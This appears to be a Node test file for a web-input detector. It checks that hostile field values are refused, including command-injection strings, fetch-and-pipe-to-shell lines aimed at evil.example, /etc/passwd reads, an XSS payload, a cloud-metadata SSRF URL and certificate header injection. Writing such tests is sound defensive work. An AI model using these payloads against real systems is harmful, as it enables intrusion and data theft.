import assert from "node:assert/strict";
import { test } from "node:test";

import type { FieldPlace } from "../../../input/field.ts";
import { refusalPoints } from "../detector.ts";
import { inspectField } from "../inspect.ts";

const refused = (place: FieldPlace, name: string, value: string): boolean =>
  inspectField({ place, name, value, isName: false }).some(({ points }) => points >= refusalPoints);

test("what goes on behind an ordinary command, request or link is still refused", () => {
  for (const text of [
    "npm install express && id",
    "npm install express; id",
    "npm install https://evil.example/x.tgz",
    "npm install ../x",
    "npm exec id",
    "ping -c 10 127.0.0.1",
    "ping 8.8.8.8; id",
    "ping 8.8.8.8 | sh",
    "; ping 8.8.8.8",
    "GET /a; id",
    "GET http://evil.example/x | sh",
    "<@U1|id>/tmp/a",
    "<#C1|general>; id",
    "<u|id>",
    "x &amp; whoami",
    "x&amp; id",
    "more</etc/passwd",
    "a; more</etc/passwd>",
  ])
    assert.ok(refused("query", "query.q", text), text);
});

test("a name that only looks like a report's field excuses nothing", () => {
  const code = "require('child_process').execSync('id')";
  assert.ok(refused("body", "body.sample", code));
  assert.ok(refused("body", "body.script-sample", code));
  assert.ok(refused("query", "query.csp-report.script-sample", code));
  assert.ok(refused("body", "body.csp-report.script-sample", "<script>alert(1)</script>"));
  assert.ok(refused("query", "query.dl", "http://localhost:3000/"));
  assert.ok(refused("body", "body.url", "http://localhost/"));
  assert.ok(refused("body", "body.frames.0.filename", "http://169.254.169.254/latest/meta-data/"));
});

test("a line break in a header beside a certificate's own lines is refused", () => {
  const whole = "-----BEGIN CERTIFICATE-----\nMIID\n-----END CERTIFICATE-----";
  for (const text of [
    `${whole}\nSet-Cookie: a=b`,
    `${whole}\n\nMIID`,
    whole.replace("MIID", "Set-Cookie: a=b"),
    whole.replace("MIID", "MIID\n\n<p>"),
    whole.replace("END CERTIFICATE", "END KEY"),
    `a\n${whole}`,
  ])
    assert.ok(refused("header", "header.x-client-cert", text), text);
});

test("a plain command of a package manager is a hint, and so is a chat's link whose label is a command", () => {
  for (const text of ["npm install express", "pip install evil", "ping 8.8.8.8", "see <@U1|id> there"])
    assert.ok(
      inspectField({ place: "query", name: "query.q", value: text, isName: false }).some(
        ({ detector, points }) => detector === "shell" && points < refusalPoints,
      ),
      text,
    );
});
